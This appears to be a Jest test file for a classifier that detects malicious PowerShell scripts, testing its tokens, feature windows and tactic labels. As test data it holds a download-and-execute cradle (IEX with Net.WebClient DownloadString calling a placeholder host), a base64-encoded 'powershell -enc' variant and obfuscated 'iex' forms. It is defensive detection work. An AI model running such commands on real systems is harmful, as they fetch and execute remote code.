import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { capabilityNames, tacticOf } from '../../../classifiers/script/capabilities.ts';
import {
  CAPABILITY_ROWS_FROM,
  extractFeatures,
  TABLE_ROWS,
  type ScriptFeatures,
} from '../../../classifiers/script/features.ts';
import { finished } from '../../../classifiers/script/steps.ts';
import { readTokens } from '../../../classifiers/script/tokens.ts';

const codes = (text: string) => finished(readTokens(text)).codes;
const skills = ({ windows }: ScriptFeatures) =>
  windows.map(({ capabilities }) =>
    capabilities.flatMap((row) => capabilityNames[row - CAPABILITY_ROWS_FROM] ?? []),
  );

describe('tokens', () => {
  test.each([
    ['case', 'INVOKE-expression $X', 'Invoke-Expression $y'],
    ['escapes and joins', "&('i'+'ex') $a", "&('iex') $b"],
    [
      'names of variables, programs and hosts',
      "$a = 'http://one.example/a.exe'",
      "$zz9 = 'http://two.test/bb.exe'",
    ],
    ['how long a list of numbers is', '1,2,3,4,5,6,7,8,9', Array.from({ length: 400 }, (_, n) => n).join()],
    ['comments', 'Get-Date # iex', 'Get-Date'],
  ])('%s make no difference', (_, one, other) => {
    expect(codes(one)).toEqual(codes(other));
  });

  test('a cut blob is the same as the whole one, in base64, in hexadecimal and in numbers', () => {
    const bytes = Buffer.from(Array.from({ length: 900 }, (_, n) => (n * 89 + (n >> 3) * 57) & 255));
    const lists = [
      bytes.toString('base64'),
      bytes.toString('hex'),
      Array.from(bytes).join(','),
      Array.from(bytes, (b) => `0x${b.toString(16)}`).join(','),
    ];
    for (const list of lists) {
      const cut = `${list.slice(0, 160)}<CUT:x:${list.length}>`;
      expect(codes(`$a = '${cut}'; b c`)).toEqual(codes(`$a = '${list}'; b c`));
      expect(codes(`$a = '${list}'; b c`).length).toBeLessThanOrEqual(6);
    }
  });

  test('text in base64 is read where it stands, one level deep', () => {
    const inner = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/b')";
    for (const encoding of ['utf16le', 'utf8'] as const) {
      const found = new Set(codes(`powershell -enc ${Buffer.from(inner, encoding).toString('base64')}`));
      for (const word of ['iex', 'new-object', 'webclient'])
        expect(found.has(codes(word)[0] ?? -1)).toBe(true);
    }
  });

  test('a long path is words and no blob', () => {
    expect(codes('src/System/Management/Automation/Language/Parser/Tokens').length).toBe(7);
  });
});

describe('windows', () => {
  test('cover all of a long script, and what is put around a passage does not change the window that holds it', () => {
    const passage = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/b')\n";
    const padding = "Write-Output 'nothing of note'\n".repeat(300);
    const { windows } = extractFeatures(padding + passage + padding);
    expect(windows.length).toBeGreaterThan(8);
    const found = skills({ tokens: 0, windows }).filter(
      (names) => names.includes('download') && names.includes('evaluate'),
    );
    expect(found.length).toBeGreaterThanOrEqual(1);
    expect(windows.at(-1)?.end).toBe(2 * padding.length + passage.length);
  });

  test('every row lies in its half of the table, for any text', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 400 }),
      fc
        .array(
          fc.constantFrom(
            "'",
            '"',
            '`',
            '$(',
            ')',
            '<#',
            '#>',
            '@"\n',
            '\n"@',
            '+',
            'iex',
            '0x1,',
            '<CUT:',
            '\\x41',
            '{0}{1}',
            '{1}',
          ),
          { maxLength: 200 },
        )
        .map((parts) => parts.join('')),
    );
    fc.assert(
      fc.property(text, (script) => {
        for (const { rows, capabilities, start, end } of extractFeatures(script).windows) {
          expect(rows.every((row) => row > 0 && row < CAPABILITY_ROWS_FROM)).toBe(true);
          expect(capabilities.every((row) => row >= CAPABILITY_ROWS_FROM && row < TABLE_ROWS)).toBe(true);
          expect(new Set([...rows, ...capabilities]).size).toBe(rows.length + capabilities.length);
          expect(start <= end && end <= script.length).toBe(true);
        }
      }),
      { numRuns: 150 },
    );
  });

  test('cost grows with the text and no faster, whatever it is made of', () => {
    const makers = [
      'a ',
      "'a'+",
      'abcdefg/',
      '`a',
      '"$(',
      '1,',
      '<CUT:',
      '<#',
      "@'\n",
      '{1}{0}',
      'http://',
      'AbCd1234',
      ' \n',
      '$a.b::c|',
    ];
    const cost = (text: string) => {
      const times = [0, 1].map(() => {
        const began = process.cpuUsage();
        extractFeatures(text);
        const { user, system } = process.cpuUsage(began);
        return user + system;
      });
      return Math.min(...times);
    };
    for (const maker of makers) {
      const [small, large] = [4096, 32_768].map((size) => cost(maker.repeat(size / maker.length)));
      // Eight times the text; quadratic work would be sixty-four times the cost.
      expect([maker, (large ?? 0) <= 30 * Math.max(small ?? 0, 1000)]).toEqual([maker, true]);
    }
  });
});

test('the gravest capability names the tactic', () => {
  expect(tacticOf(['download', 'credentials'])).toBe('credential-access');
  expect(tacticOf(['evaluate'])).toBe('execution');
  expect(tacticOf([])).toBeUndefined();
});
